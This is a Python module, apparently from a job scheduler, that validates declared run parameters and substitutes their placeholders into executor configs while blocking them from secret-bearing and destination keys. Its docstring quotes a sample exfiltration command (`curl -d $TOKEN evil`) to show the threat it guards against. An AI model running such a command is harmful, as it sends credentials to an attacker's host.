"""Run parameters: a job's declaration (`Job.params`), the values a run is given, checked against
it, and the `{{ params.<name> }}` placeholders of executor configs.

Pure functions, no Django: the services call them at save time and when a run starts, the agent
when it hands the plain config to the executor (agent.runner).

Rules, chosen so that a parameter can never carry a secret out of a job:

1. A placeholder is the one pattern `{{ params.<name> }}`, replaced by plain string substitution
   in one pass (`re.sub`): a value that itself looks like a placeholder stays text, nothing is
   evaluated.
2. A placeholder naming an undeclared parameter is refused when the job is saved.
3. Placeholders are refused in secret values (an `env` entry, a password, a URL's credentials)
   and, when the config holds a secret, in the keys that decide where it goes (a shell
   command, a URL, a broker): a value chosen at run time must not be able to send a secret
   somewhere else (`curl -d $TOKEN evil` in a command). Parameters reach those through
   `DKRON_PARAM_<NAME>` instead (shell and docker). In a destination key, a free string
   parameter in a URL's scheme, user, host or port is refused whether or not a secret was
   recognised (a choice, int or bool there is the job author's own list).
4. The agent substitutes after it unseals the stored config, into the copy it hands the
   executor only; the stored config, the run's snapshot and every page keep the placeholders.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from typing import Annotated, Any, Literal

from pydantic import BaseModel, ConfigDict, Field, StrictBool, StrictInt, StrictStr, model_validator
from pydantic import ValidationError as PydanticError

import confidential

TYPES = ("string", "int", "bool", "choice")
# Upper-cased into DKRON_PARAM_<NAME>: a name must be a portable environment variable name.
NAME_PATTERN = r"^[A-Za-z_][A-Za-z0-9_]{0,63}$"
PLACEHOLDER = re.compile(r"\{\{\s*params\.([A-Za-z_][A-Za-z0-9_]*)\s*\}\}")
ENV_PREFIX = "DKRON_PARAM_"
MAX_PARAMS = 50
MAX_VALUE = 4096  # characters of one string value

Value = StrictStr | StrictInt | StrictBool


class InvalidParams(Exception):
    """A declaration or a run's values are refused; `errors` maps where (a parameter's name,
    `name.field` in a declaration) to the message."""

    def __init__(self, errors: dict[str, str]) -> None:
        super().__init__("; ".join(f"{k}: {v}" for k, v in errors.items()))
        self.errors = errors

    def first(self) -> str:
        key, message = next(iter(self.errors.items()))
        return f"{key}: {message}"


class Param(BaseModel):
    """One declared parameter. Strict: Dkron-style string forms are not guessed ("1" is not an
    int default), so a declaration reads back as it was written."""

    model_config = ConfigDict(extra="forbid", strict=True, frozen=True)

    name: Annotated[str, Field(pattern=NAME_PATTERN)]
    type: Literal["string", "int", "bool", "choice"] = "string"
    default: Value | None = None
    required: bool = False
    description: Annotated[str, Field(max_length=1000)] = ""
    choices: list[Annotated[str, Field(min_length=1, max_length=255)]] | None = None

    @model_validator(mode="after")
    def _consistent(self) -> Param:
        if self.type == "choice":
            if not self.choices:
                raise ValueError("choices: a choice parameter needs a non-empty list of choices")
            if len(set(self.choices)) != len(self.choices):
                raise ValueError("choices: must not repeat a value")
        elif self.choices is not None:
            raise ValueError(f"choices: only a choice parameter has choices, not {self.type}")
        if self.default is not None:
            problem = _type_problem(self, self.default)
            if problem:
                raise ValueError(f"default: {problem}")
        return self

    def as_dict(self) -> dict[str, Any]:
        """The stored and wire form: what was declared, without keys left at their default."""
        return self.model_dump(exclude_defaults=True) | {"name": self.name, "type": self.type}


def _type_problem(param: Param, value: Any) -> str:
    """Why `value` is not a value of `param` ("" when it is)."""
    if param.type == "int":
        if isinstance(value, bool) or not isinstance(value, int):
            return f"must be an integer, not {_kind(value)}"
        if abs(value) > 2**63 - 1:
            return "is out of range"
    elif param.type == "bool":
        if not isinstance(value, bool):
            return f"must be true or false, not {_kind(value)}"
    elif not isinstance(value, str):
        return f"must be a string, not {_kind(value)}"
    elif len(value) > MAX_VALUE:
        return f"must be at most {MAX_VALUE} characters"
    elif "\x00" in value:
        return "must not contain NUL characters"
    elif param.type == "choice" and value not in (param.choices or ()):
        return f"'{value}' is not one of {', '.join(param.choices or ())}"
    return ""


def _kind(value: Any) -> str:
    if value is None:
        return "null"
    if isinstance(value, bool):
        return "a boolean"
    if isinstance(value, (int, float)):
        return "a number"
    if isinstance(value, str):
        return "a string"
    return "a list" if isinstance(value, list) else "an object"


def parse_declaration(value: Any) -> list[Param]:
    """A job's `params` as given (a JSON list, or None for none) -> the declared parameters.

    Raises InvalidParams keyed `<name or index>.<field>`, so the API's 400 names the field."""
    if value is None:
        return []
    if not isinstance(value, list):
        raise InvalidParams({"params": f"must be a list of parameters, not {_kind(value)}"})
    if len(value) > MAX_PARAMS:
        raise InvalidParams({"params": f"at most {MAX_PARAMS} parameters"})
    params: list[Param] = []
    errors: dict[str, str] = {}
    seen: dict[str, str] = {}
    for index, item in enumerate(value):
        label = _label(index, item)
        try:
            param = Param.model_validate(item)
        except PydanticError as exc:
            for error in exc.errors():
                field = ".".join(str(part) for part in error["loc"])
                message = error["msg"].removeprefix("Value error, ")
                if not field and ": " in message:  # a model rule naming its field
                    field, message = message.split(": ", 1)
                errors.setdefault(f"{label}.{field}" if field else label, message)
            continue
        # Case-insensitive: two names may not share one DKRON_PARAM_ variable.
        other = seen.get(param.name.upper())
        if other is not None:
            errors[f"{label}.name"] = f"'{param.name}' is declared twice (as '{other}')"
            continue
        seen[param.name.upper()] = param.name
        params.append(param)
    if errors:
        raise InvalidParams(errors)
    return params


def _label(index: int, item: Any) -> str:
    name = item.get("name") if isinstance(item, dict) else None
    if isinstance(name, str) and re.match(NAME_PATTERN, name):
        return name
    return str(index)


def stored(params: list[Param]) -> list[dict[str, Any]]:
    """The declaration as `Job.params` holds it (and the API answers it)."""
    return [p.as_dict() for p in params]


def resolve(declaration: Any, given: Any) -> dict[str, Any]:
    """The values a run runs with: `given` (the run body's `params`, None when none were sent)
    checked against the declaration, each missing one taken from its default.

    A parameter with no value and no default is None (its placeholder becomes empty and its
    variable is not set), unless it is required: then the run is refused. Raises
    InvalidParams keyed by the parameter's name."""
    params = {p.name: p for p in parse_declaration(declaration)}
    if given is None:
        given = {}
    if not isinstance(given, dict):
        raise InvalidParams({"params": f"must be an object of name: value, not {_kind(given)}"})
    errors: dict[str, str] = {}
    for name in given:
        if name not in params:
            known = ", ".join(params) or "none"
            errors[str(name)] = f"unknown parameter (declared: {known})"
    values: dict[str, Any] = {}
    for name, param in params.items():
        value = given.get(name)
        if value is None:
            value = param.default
        if value is None:
            if param.required:
                errors[name] = "required parameter is missing"
            values[name] = None
            continue
        problem = _type_problem(param, value)
        if problem:
            errors[name] = problem
        else:
            values[name] = value
    if errors:
        raise InvalidParams(errors)
    return values


def as_text(value: Any) -> str:
    """A value as a placeholder or a variable holds it: bools as JSON writes them."""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def environment(values: Mapping[str, Any]) -> dict[str, str]:
    """`DKRON_PARAM_<NAME>` variables for the shell and docker executors."""
    return {
        f"{ENV_PREFIX}{name.upper()}": as_text(value)
        for name, value in values.items()
        if value is not None
    }


def placeholders(config: Any) -> Iterator[tuple[str, str]]:
    """(top-level key, parameter name) of each placeholder in an executor config."""
    if not isinstance(config, dict):
        return
    for key, value in config.items():
        for text in _strings(value):
            for match in PLACEHOLDER.finditer(text):
                yield str(key), match.group(1)


def _strings(value: Any) -> Iterator[str]:
    stack = [value]
    while stack:
        item = stack.pop()
        if isinstance(item, str):
            yield item
        elif isinstance(item, dict):
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)


def _closed_keys(spec: confidential.Spec, config: Mapping[str, Any]) -> dict[str, str]:
    """Keys placeholders may not appear in (rule 3), each with why: those holding a secret
    value (a placeholder there counts: it would be one), and when there is any, the keys
    that decide where secrets go."""
    closed = {}
    secret_paths = confidential.secret_values(spec, config)
    for key in {path[0] for path, value in secret_paths.items() if value not in (None, "")}:
        closed[str(key)] = "holds a secret"
    if closed:
        for key in spec.destinations:
            closed.setdefault(key, "decides where this job's secrets go")
    return closed


_AUTHORITY = re.compile(r"^\s*(?:[A-Za-z][A-Za-z0-9+.-]*:)?//([^/?#]*)")


_ADDRESS_WORDS = ("url", "host", "address", "broker", "server", "endpoint")


def _connects(key: str, value: Any, name: str) -> bool:
    """Whether parameter `name` can choose the server in a destination key's value
    (`_in_authority`; a bare `{{ params.x }}...` counts only in keys named like an address,
    not in a command)."""
    addressy = any(word in key.lower() for word in _ADDRESS_WORDS)
    for text in _strings(value):
        if _in_authority(text, name) and (addressy or _AUTHORITY.match(text)):
            return True
    return False


def _in_authority(text: str, name: str) -> bool:
    """Whether a placeholder sits where a URL names its host (scheme, user, host, port), or
    the string is all placeholder before any path: there a run's value would pick the server
    the job connects to, and with it who receives whatever the request carries. The secret
    classification cannot see every credential (a token as the URL's user name, a session id
    in its query, a client certificate), so this holds whether or not the config has one."""
    first = next((m for m in PLACEHOLDER.finditer(text) if m.group(1) == name), None)
    if first is None:
        return False
    match = _AUTHORITY.match(text)
    if match is None:  # no scheme://: a URL only if the placeholder starts it
        return first.start() == len(text) - len(text.lstrip())
    return first.start() < match.end(1)


def config_problems(
    declaration: list[Param], spec: confidential.Spec, config: Mapping[str, Any]
) -> dict[str, str]:
    """Save-time findings about a plain executor config's placeholders, by config key."""
    declared = {p.name: p for p in declaration}
    closed = _closed_keys(spec, config)
    problems: dict[str, str] = {}
    for key, name in placeholders(config):
        if name not in declared:
            problems.setdefault(key, f"{{{{ params.{name} }}}} names no declared parameter")
        elif (
            declared[name].type == "string"
            and key in spec.destinations
            and _connects(key, config[key], name)
        ):
            problems.setdefault(
                key,
                f"{{{{ params.{name} }}}} is not allowed in the scheme, user, host or port of a "
                "URL: a free string chosen at run time must not pick the server this job "
                "connects to (declare it as a choice)",
            )
        elif key in closed:
            problems.setdefault(
                key,
                f"{{{{ params.{name} }}}} is not allowed here: this key {closed[key]} "
                f"(use ${ENV_PREFIX}{name.upper()} in shell and docker jobs)",
            )
    return problems


def substitute(
    config: Mapping[str, Any], values: Mapping[str, Any], spec: confidential.Spec
) -> dict[str, Any]:
    """The plain config with each `{{ params.<name> }}` replaced by the run's value, for the
    executor only. One pass; closed keys (rule 3) are never touched, whatever was stored, and
    a placeholder of a parameter with no value (None) becomes empty. Unknown names stay as
    written (a job saved before its declaration changed: save-time checks refuse new ones)."""
    if not any(True for _ in placeholders(config)):
        return dict(config)
    closed = _closed_keys(spec, config)

    def replace(match: re.Match[str]) -> str:
        name = match.group(1)
        if name not in values:
            return match.group(0)
        value = values[name]
        return "" if value is None else as_text(value)

    def walk(value: Any) -> Any:
        if isinstance(value, str):
            return PLACEHOLDER.sub(replace, value)
        if isinstance(value, dict):
            return {k: walk(v) for k, v in value.items()}
        if isinstance(value, list):
            return [walk(v) for v in value]
        return value

    return {k: v if k in closed else walk(v) for k, v in config.items()}
